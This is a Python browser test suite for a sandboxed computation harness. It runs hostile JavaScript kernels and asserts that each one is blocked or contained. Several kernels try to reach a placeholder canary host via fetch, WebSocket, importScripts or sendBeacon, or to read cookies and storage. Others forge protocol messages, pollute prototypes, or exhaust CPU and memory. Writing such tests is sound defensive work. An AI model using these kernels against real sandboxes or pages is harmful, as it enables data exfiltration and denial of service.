"""Malicious kernels, one per test, in a real browser (docs/harness-security.md explains each).

Each kernel attacks from inside the sandbox while a host page on another origin embeds the harness
and a canary server on another port listens. Every test checks the same four things:

- the attack is blocked (the kernel reports what it got) or contained (the worker is stopped and
  the task reported as a kernel error);
- the canary received nothing at all;
- the rest of the campaign completes with exact results;
- the host page is unaffected: it keeps animating, and its cookie, storage, URL and globals are as
  they were.

Network and storage attacks are written as async kernels that await the outcome of each attempt
and return it, so a test sees "blocked: <error>" rather than merely the absence of a hit.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import trio

from tests.browser.conftest import (
    BrowserThread,
    Canary,
    HostSite,
    Outcome,
    generator_of,
    host_page,
    open_visit,
    outcome,
)
from tests.conftest import LiveServer, StartServer

DATASETS = 6
EXACT = {i: i * 2 for i in range(DATASETS)}


@dataclass
class Attack:
    stored: Outcome
    log: list[str]

    def reports(self) -> list[Any]:
        return [self.stored.results[i] for i in sorted(self.stored.results)]

    def errors_of(self, i: int) -> list[str]:
        """Kernel error messages stored for dataset {i: i} (dataset ids are 1-based, in order)."""
        return [e["message"] for e in self.stored.errors if e["dataset_id"] == i + 1]


async def attack(
    browser: BrowserThread,
    server: LiveServer,
    host_site: HostSite,
    canary: Canary,
    kernel: str,
    *,
    task_timeout: float = 5,
    check_realms: bool = False,
) -> Attack:
    """Runs a campaign of `kernel` over {i: 0..5} from a host page and checks canary and host page."""
    kernel = kernel.replace("CANARY_WS", canary.ws_url).replace("CANARY", canary.url)
    campaign = await server.create_campaign(
        kernel=kernel, generator=generator_of(DATASETS), static="", task_timeout=task_timeout
    )
    url = host_site.add(f"attack{len(host_site.pages)}", host_page(server.url, campaign))
    page = await browser.run(open_visit, browser, url)
    try:
        secrets = await browser.run(page.host_secrets)
        await browser.run(page.reset_host_frames)
        before = await browser.run(page.host_frames)
        await browser.run(page.click, "contribute")
        await server.wait_complete(campaign, timeout=90)
        await trio.sleep(0.5)  # anything a kernel left in flight would have reached the canary by now
        stored = await outcome(server, campaign)
        if check_realms:
            assert await browser.run(page.realms_clean), "pollution escaped the kernel's worker"

        assert canary.hits == [], canary.hits
        after = await browser.run(page.host_frames)
        assert after["frames"] > before["frames"] + 10, (before, after)
        assert after["maxGap"] < 500, after
        assert await browser.run(page.host_secrets) == secrets
        return Attack(stored, page.log)
    finally:
        await browser.run(page.close)


def reporting_kernel(attempt: str) -> str:
    """A kernel that makes `attempt` (a JS expression giving a value or a promise) on every task
    and returns {i, outcome}: "blocked: <error name>" when it threw or rejected."""
    return f"""({{
  main: async function (d) {{
    var outcome;
    try {{ outcome = await ({attempt}); }} catch (e) {{ outcome = "blocked: " + (e && e.name); }}
    return {{ i: d.i, outcome: String(outcome) }};
  }}
}})"""


def assert_all_blocked(result: Attack, expected: str = "blocked: ") -> None:
    assert result.reports() == [{"i": i, "outcome": result.reports()[i]["outcome"]} for i in range(DATASETS)]
    outcomes = {report["outcome"] for report in result.reports()}
    assert all(o.startswith(expected) for o in outcomes), outcomes


# --------------------------------------------------------------------------- network


async def test_fetch_is_blocked(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel("fetch('CANARY/fetch', {mode: 'no-cors'}).then(function () { return 'reached'; })")
    assert_all_blocked(await attack(browser, live_server, host_site, canary, kernel), "blocked: TypeError")


async def test_xmlhttprequest_is_blocked(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel(
        "new Promise(function (resolve, reject) { var x = new XMLHttpRequest();"
        " x.onload = function () { resolve('reached'); }; x.onerror = function () { reject({name: 'error event'}); };"
        " x.open('GET', 'CANARY/xhr'); x.send(); })"
    )
    assert_all_blocked(await attack(browser, live_server, host_site, canary, kernel))


async def test_websocket_is_blocked(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel(
        "new Promise(function (resolve, reject) { var ws = new WebSocket('CANARY_WS/socket');"
        " ws.onopen = function () { resolve('reached'); };"
        " ws.onerror = function () { reject({name: 'error event'}); }; })"
    )
    assert_all_blocked(await attack(browser, live_server, host_site, canary, kernel))


async def test_eventsource_is_blocked(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel(
        "new Promise(function (resolve, reject) { var es = new EventSource('CANARY/events');"
        " es.onopen = function () { resolve('reached'); };"
        " es.onerror = function () { es.close(); reject({name: 'error event'}); }; })"
    )
    assert_all_blocked(await attack(browser, live_server, host_site, canary, kernel))


async def test_import_scripts_is_blocked(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel("(function () { importScripts('CANARY/script.js'); return 'reached'; })()")
    assert_all_blocked(await attack(browser, live_server, host_site, canary, kernel), "blocked: NetworkError")


async def test_send_beacon_is_blocked(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel(
        "(function () { return navigator.sendBeacon('CANARY/beacon', 'x') ? 'reached' : 'refused'; })()"
    )
    assert_all_blocked(await attack(browser, live_server, host_site, canary, kernel), "blocked: TypeError")


# --------------------------------------------------------------------------- code loading


async def test_eval_and_string_timers_are_blocked(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel(
        "new Promise(function (resolve) {"
        " var viaEval; try { viaEval = eval('\"reached\"'); } catch (e) { viaEval = 'blocked: ' + e.name; }"
        " self.stringTimerRan = false; setTimeout('self.stringTimerRan = true; fetch(\"CANARY/timer\")', 0);"
        " setTimeout(function () { resolve(self.stringTimerRan ? 'reached' : viaEval); }, 50); })"
    )
    assert_all_blocked(await attack(browser, live_server, host_site, canary, kernel), "blocked: EvalError")


async def test_new_function_is_blocked(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel("(function () { return new Function('return \"reached\"')(); })()")
    assert_all_blocked(await attack(browser, live_server, host_site, canary, kernel), "blocked: EvalError")


async def test_nested_workers_cannot_be_spawned(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel(
        "(function () { var code = ['fetch(\"CANARY/nested\"); while (true) {}'];"
        " var url = URL.createObjectURL(new Blob(code, {type: 'text/javascript'}));"
        " var kinds = []; try { new Worker(url); kinds.push('Worker'); } catch (e) { kinds.push(e.name); }"
        " try { new SharedWorker(url); kinds.push('SharedWorker'); } catch (e) { kinds.push(e.name); }"
        " if (kinds.indexOf('Worker') >= 0 || kinds.indexOf('SharedWorker') >= 0) return 'reached: ' + kinds;"
        " throw {name: kinds.join(',')}; })()"
    )
    assert_all_blocked(
        await attack(browser, live_server, host_site, canary, kernel), "blocked: ReferenceError,ReferenceError"
    )


# --------------------------------------------------------------------------- the page and its data


async def test_parent_top_and_document_are_out_of_reach(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel(
        "(function () { var seen = [typeof parent, typeof top, typeof document,"
        " typeof window, typeof opener, typeof frames];"
        " if (seen.some(function (t) { return t !== 'undefined'; })) return 'reached: ' + seen;"
        " throw {name: 'all undefined'}; })()"
    )
    assert_all_blocked(await attack(browser, live_server, host_site, canary, kernel), "blocked: all undefined")


async def test_cookies_are_out_of_reach(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel(
        "(async function () { var found = [];"
        " if (typeof document !== 'undefined') found.push(document.cookie);"
        " if (typeof cookieStore !== 'undefined') found.push(JSON.stringify(await cookieStore.getAll()));"
        " if (found.length) return 'reached: ' + found; throw {name: 'no cookie API'}; })()"
    )
    result = await attack(browser, live_server, host_site, canary, kernel)
    assert_all_blocked(result, "blocked: no cookie API")
    assert "cookie-3f9a" not in repr(result.reports())


async def test_local_storage_is_out_of_reach(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel(
        "(function () { if (typeof localStorage !== 'undefined')"
        " return 'reached: ' + localStorage.getItem('host_secret');"
        " if (typeof sessionStorage !== 'undefined') return 'reached: sessionStorage'; throw {name: 'no storage'}; })()"
    )
    result = await attack(browser, live_server, host_site, canary, kernel)
    assert_all_blocked(result, "blocked: no storage")
    assert "storage-3f9a" not in repr(result.reports())


async def test_indexeddb_is_refused(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel(
        "new Promise(function (resolve, reject) { var open = indexedDB.open('loot');"
        " open.onsuccess = function () { resolve('reached'); }; open.onerror = function () { reject(open.error); }; })"
    )
    assert_all_blocked(await attack(browser, live_server, host_site, canary, kernel), "blocked: SecurityError")


async def test_cache_storage_is_refused(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = reporting_kernel("caches.open('loot').then(function () { return 'reached'; })")
    # Not even exposed to an opaque-origin worker (ReferenceError); SecurityError elsewhere.
    assert_all_blocked(await attack(browser, live_server, host_site, canary, kernel))


# --------------------------------------------------------------------------- the harness itself


async def test_forged_protocol_messages_stop_the_worker_and_reach_nobody(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = """({
  main: function (d) {
    if (d.i === 3) {
      for (var id = 0; id < 50; id++) postMessage([id, 1, null, 0]);
      postMessage({ type: "report", gen: 1, items: [[1, true, null, 0]], running: [] });
      postMessage({ type: "start", gen: 9, kernel: "({main: function () { return 'hijacked'; }})", static: "" });
      for (var n = 0; n < 10000; n++) postMessage("flood");
    }
    return d.i * 2;
  }
})"""
    result = await attack(browser, live_server, host_site, canary, kernel)
    assert {i: v for i, v in result.stored.results.items() if i != 3} == {i: v for i, v in EXACT.items() if i != 3}
    assert 3 not in result.stored.results  # a forged answer never counts: the task failed instead
    assert result.errors_of(3) == ["the kernel's worker answered a task it was not computing"]


async def test_prototype_pollution_stays_inside_the_kernels_worker(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    """Pollution of the kernel's own realm changes neither its results (the bootstrap took the
    builtins it relies on before the kernel ran) nor any other realm: not the runner, the broker
    or the host page."""
    kernel = """(function () {
  Object.prototype.polluted = "yes";
  Array.prototype.polluted = "yes";
  Object.defineProperty(Object.prototype, "toString", { value: function () { return "evil"; } });
  Object.keys = function () { return ["evil"]; };
  String.prototype.isWellFormed = function () { return false; };
  JSON.stringify = function () { return "evil"; };
  self.postMessage = function () {};
  return {
    main: function (d) {
      Object.prototype["more" + d.i] = d.i;
      return { i: d.i, list: [d.i, d.i + 1], text: "ok" };
    }
  };
})()"""
    result = await attack(browser, live_server, host_site, canary, kernel, check_realms=True)
    assert result.stored.results == {i: {"i": i, "list": [i, i + 1], "text": "ok"} for i in range(DATASETS)}
    assert result.stored.errors == []


async def test_an_infinite_loop_is_stopped_by_the_watchdog(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = "({ main: function (d) { if (d.i === 3) { while (true) {} } return d.i * 2; } })"
    result = await attack(browser, live_server, host_site, canary, kernel, task_timeout=1.5)
    assert {i: v for i, v in result.stored.results.items() if i != 3} == {i: v for i, v in EXACT.items() if i != 3}
    assert 3 not in result.stored.results
    assert result.errors_of(3) == ["task exceeded the time limit of 1.5 s"]


async def test_an_enormous_result_is_refused_in_the_worker(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = "({ main: function (d) { return d.i === 3 ? 'x'.repeat(64 * 1024 * 1024) : d.i * 2; } })"
    result = await attack(browser, live_server, host_site, canary, kernel)
    assert {i: v for i, v in result.stored.results.items() if i != 3} == {i: v for i, v in EXACT.items() if i != 3}
    limit = live_server.settings.max_result_bytes
    assert result.errors_of(3) == [f"the result is too large: it is over the limit of {limit:,} bytes"]


async def test_a_result_that_cannot_be_serialised_is_an_error(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = "({ main: function (d) { return d.i === 3 ? { f: function () {} } : d.i * 2; } })"
    result = await attack(browser, live_server, host_site, canary, kernel)
    assert {i: v for i, v in result.stored.results.items() if i != 3} == {i: v for i, v in EXACT.items() if i != 3}
    assert result.errors_of(3) == ['the result cannot be serialised: property "f" is a function']


async def test_work_scheduled_after_returning_is_contained(
    browser: BrowserThread, live_server: LiveServer, host_site: HostSite, canary: Canary
) -> None:
    kernel = """({
  main: function (d) {
    if (d.i === 3) {
      setTimeout(function () {
        fetch("CANARY/late").catch(function () {});
        postMessage([123456, 1, null, 0]);
        while (true) {}
      }, 0);
    }
    return d.i * 2;
  }
})"""
    result = await attack(browser, live_server, host_site, canary, kernel, task_timeout=1.5)
    # Its own answer went out before the timer fired; whichever task the worker held next was
    # stopped and handed out again, so every result is still exact.
    assert result.stored.results == EXACT


async def test_a_memory_bomb_crashes_only_the_sandbox(
    browser: BrowserThread, start_server: StartServer, host_site: HostSite, canary: Canary
) -> None:
    """The bomb outgrows V8's heap and takes the runner's process down (a sandboxed frame has a
    process of its own). The broker notices the silence, reports the task, starts a new runner and
    finishes the campaign; the host page never stops animating. Playwright declares the whole page
    crashed when any of its frames crashes, so the host page reports itself via beacons instead."""
    server = await start_server(max_task_errors=1)
    kernel = """({ main: function (d) {
  if (d.i === 3) { var a = []; while (true) a.push(new Array(1e6).fill(d.i + 0.5)); }
  return d.i * 2;
} })"""
    campaign = await server.create_campaign(
        kernel=kernel, generator=generator_of(DATASETS), static="", task_timeout=120
    )
    url = host_site.add("bomb", host_page(server.url, campaign, beacon=True))
    page = await browser.run(open_visit, browser, url)
    try:
        await browser.run(page.reset_host_frames)
        await browser.run(page.click, "contribute")
        await server.wait_complete(campaign, timeout=90)
        stored = await outcome(server, campaign)
        assert {i: v for i, v in stored.results.items() if i != 3} == {i: v for i, v in EXACT.items() if i != 3}
        assert [e["message"] for e in stored.errors] == [
            "the sandbox crashed while computing this task (did the kernel run out of memory?)"
        ]
        assert canary.hits == []

        seen = len(host_site.beacons)
        await trio.sleep(1.5)
        fresh = host_site.beacons[seen:]
        assert len(fresh) >= 3  # the host page is alive
        assert fresh[-1]["frames"] > fresh[0]["frames"]  # and animating
        assert max(b["gap"] for b in host_site.beacons) < 500
    finally:
        await browser.run(page.close)
